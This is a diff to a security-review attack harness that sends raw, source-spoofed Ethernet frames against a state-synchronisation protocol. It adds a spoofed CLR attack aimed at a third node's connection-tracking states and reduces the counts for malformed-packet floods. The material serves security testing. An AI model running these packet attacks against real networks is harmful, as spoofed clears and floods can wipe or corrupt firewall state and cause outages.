@@ -4,6 +4,7 @@ test_hostile.sh.  It runs one attack of the security review
 (security-2026-12.md) and reports, as one JSON line, what came back.
 
 usage: attacker.py IFACE A_IP A_MAC B_IP B_MAC ATTACK [SECS]
+(A_HOSTID for m9; C_IP, C_MAC and C_HOSTID, a third node, for m9ct)
 
 Packets are written whole as Ethernet frames on an AF_PACKET socket
 (protocol 240, TTL 255, any source address: also 0.0.0.0, which a raw
@@ -226,7 +227,9 @@ class Attacker:
         dst = dst or GROUP
         if dmac is None:
             dmac = GROUP_MAC if dst == GROUP else \
-                self.a_mac if dst == self.a_ip else self.b_mac
+                self.a_mac if dst == self.a_ip else \
+                mac(os.environ["C_MAC"]) if dst == os.environ.get("C_IP") \
+                else self.b_mac
         self.ident = (self.ident + 1) & 0xFFFF
         for pkt in ip_frags(src, dst, payload, self.ident):
             self.tx.send(dmac + self.mac + struct.pack("!H", ETH_P_IP) + pkt)
@@ -321,7 +324,7 @@ def m3_ureq(x, secs=4.0, every=0.2):
     x.sending = False
 
 
-def m4_stride0(x, n=30, every=0.1):
+def m4_stride0(x, n=12, every=0.1):
     """M4a: 9 KB v6 packets of {OINS, len 0, count 65535} sections."""
     body = struct.pack("!BBH", 1, 0, 0xFFFF) * 2290
     x.sending = True
@@ -331,7 +334,7 @@ def m4_stride0(x, n=30, every=0.1):
     x.sending = False
 
 
-def m4_clr(x, n=60, every=0.05):
+def m4_clr(x, n=30, every=0.05):
     """M4b: v6 CLR sections of 459 random (unknown) creators each."""
     x.sending = True
     for _ in range(n):
@@ -377,6 +380,13 @@ def m9_clr(x):
            dst=x.a_ip)
 
 
+def m9_clr_ct(x):
+    """M9 with the conntrack backend: a CLR naming C's hostid, to C."""
+    hostid = int(os.environ["C_HOSTID"], 0)
+    x.send(v3(CLR, 0, bytes(16) + struct.pack("!II", hostid, 0)),
+           dst=os.environ["C_IP"])
+
+
 def m6_flood(x):
     """M6: 3000 states inserted at B, 6 a packet."""
     x.sending = True
@@ -396,6 +406,7 @@ def m6_clean(x):
 ATTACKS = {"m1": m1_nack, "m2hb": m2_hb, "m2gone": m2_gone,
            "m2streams": m2_streams, "m3": m3_ureq, "m4stride0": m4_stride0,
            "m4clr": m4_clr, "m5": m5_dialect, "l6": l6_updc, "m9": m9_clr,
+           "m9ct": m9_clr_ct,
            "m6": m6_flood, "m6clean": m6_clean}
 
 
